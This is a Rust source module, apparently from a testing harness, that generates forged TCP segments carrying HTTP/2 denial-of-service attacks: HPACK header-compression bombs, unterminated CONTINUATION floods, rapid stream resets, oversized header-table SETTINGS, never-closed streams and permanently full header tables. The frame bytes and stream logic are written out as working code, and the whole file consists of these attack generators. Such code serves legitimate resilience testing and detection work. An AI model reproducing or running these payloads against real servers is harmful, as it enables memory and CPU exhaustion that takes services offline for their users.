//! Attacks by HTTP/2: each is a rule that generates frame after frame.

use super::attack_harness::{Attack, AttackSegment};
use super::attacks::client;
use super::http2::{
    CONTINUATION, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, WHOLE, frame,
};
use super::packet::ACK;

/// A request whose block is only indices into the static table: GET /, http.
const GET: [u8; 3] = [0x82, 0x84, 0x86];

/// A literal field that is inserted into the table: `x` with `len_bytes` of `byte`.
fn literal(byte: u8, len_bytes: usize) -> Vec<u8> {
    let rest = len_bytes - 127;
    let length = [0x7f, 0x80 | (rest % 128) as u8, (rest / 128) as u8];
    [&[0x40, 1, b'x'][..], &length, &vec![byte; len_bytes]].concat()
}

/// The table has `bytes` at most, of which there are more than 158.
fn size_update(bytes: usize) -> [u8; 3] {
    let rest = bytes - 31;
    [0x3f, 0x80 | (rest % 128) as u8, (rest / 128) as u8]
}

/// What `flow_count` clients send in turn: a beginning, then `next` with the number of the round.
fn in_turn(
    flow_count: u64,
    begin: Vec<u8>,
    next: impl Fn(u64) -> Vec<u8>,
) -> impl FnMut(u64, &mut Vec<u8>) {
    let mut sent = vec![1_u32; flow_count as usize];
    move |number: u64, out: &mut Vec<u8>| {
        let (round, flow) = (number / flow_count, number % flow_count);
        let payload = if round == 0 { begin.clone() } else { next(round) };
        let mut segment = AttackSegment::from(client(flow), ACK);
        let sent = &mut sent[flow as usize];
        (segment.seq, segment.ack) = (*sent, 1);
        *sent = sent.wrapping_add(payload.len() as u32);
        segment.write(&payload, out);
    }
}

fn begin(more: &[u8]) -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, &[]), more].concat()
}

fn stream(round: u64) -> u32 {
    (2 * round + 1) as u32
}

/// Header blocks of 16 KB that stand for 48 MB each.
pub fn bombs(flow_count: u64) -> impl Attack {
    let fuse = [&GET[..], &literal(b'z', 3000)].concat();
    let bomb = [&GET[..], &vec![0xbe; 16_000]].concat();
    let begin = begin(&frame(HEADERS, WHOLE, 1, &fuse));
    in_turn(flow_count, begin, move |round| frame(HEADERS, WHOLE, stream(round), &bomb))
}

/// CONTINUATION without end, with `len_bytes` of content in each frame.
pub fn continuations(flow_count: u64, len_bytes: usize) -> impl Attack {
    let begin = begin(&frame(HEADERS, 0, 1, &[]));
    let content = literal(b'c', 1000).repeat(2);
    let flood = frame(CONTINUATION, 0, 1, &content[..len_bytes]).repeat(60_000 / (9 + len_bytes));
    in_turn(flow_count, begin, move |_| flood.clone())
}

/// Streams that are reset as soon as they have begun.
pub fn rapid_resets(flow_count: u64) -> impl Attack {
    in_turn(flow_count, begin(&[]), |round| {
        let pair = |number: u64| {
            let id = stream(round * 1000 + number);
            [frame(HEADERS, WHOLE, id, &GET), frame(RST_STREAM, 0, id, &[0, 0, 0, 8])].concat()
        };
        (0..1000).flat_map(pair).collect()
    })
}

/// Tables that are said to be as large as can be, and are filled.
pub fn greedy_tables(flow_count: u64) -> impl Attack {
    // HTTP2-Settings would do, too: the peer of a forger need not agree.
    let settings =
        frame(SETTINGS, 0, 0, &[0, 1, 0xff, 0xff, 0xff, 0xff, 0, 5, 0, 0xff, 0xff, 0xff]);
    in_turn(flow_count, begin(&settings), |round| {
        let update = [0x3f, 0xe1, 0xff, 0xff, 0xff, 0x07];
        let fields = literal(round as u8, 2000).repeat(8);
        let block = [&update[..], &GET, &fields].concat();
        let frames = frame(HEADERS, END_HEADERS, stream(round), &block);
        [frames, frame(RST_STREAM, 0, stream(round), &[0, 0, 0, 8])].concat()
    })
}

/// Streams that never end, many in a segment.
pub fn open_streams(flow_count: u64) -> impl Attack {
    in_turn(flow_count, begin(&[]), |round| {
        let one = |number: u64| frame(HEADERS, END_HEADERS, stream(round * 1000 + number), &GET);
        (0..1000).flat_map(one).collect()
    })
}

/// Connections with a full table in both directions, idle after each exchange. The field that is
/// inserted, with a value of `value_bytes`, has the number of its connection; later requests and
/// responses refer to it.
pub fn full_tables(flow_count: u64, value_bytes: usize) -> impl Attack {
    let mut sent = vec![[1_u32; 2]; flow_count as usize];
    move |number: u64, out: &mut Vec<u8>| {
        let (round, place) = (number / 2 / flow_count, number / 2 % flow_count);
        let is_answer = number % 2 == 1;
        let mark = b'a' + (place % 26) as u8;
        let start: &[u8] = if is_answer { &[0x88] } else { &GET };
        let block = match round {
            0 => [&size_update(1 + value_bytes + 32)[..], start, &literal(mark, value_bytes)]
                .concat(),
            _ => [start, &[0xbe]].concat(),
        };
        let headers = frame(HEADERS, WHOLE, stream(round), &block);
        let payload = match (round, is_answer) {
            (0, false) => begin(&headers),
            (0, true) => [frame(SETTINGS, 0, 0, &[]), headers].concat(),
            _ => headers,
        };
        let mut segment = AttackSegment::from(client(place), ACK);
        segment.is_answer = is_answer;
        let [own, peer] = [usize::from(is_answer), usize::from(!is_answer)];
        let sent = &mut sent[place as usize];
        (segment.seq, segment.ack) = (sent[own], sent[peer]);
        sent[own] += payload.len() as u32;
        segment.write(&payload, out);
    }
}
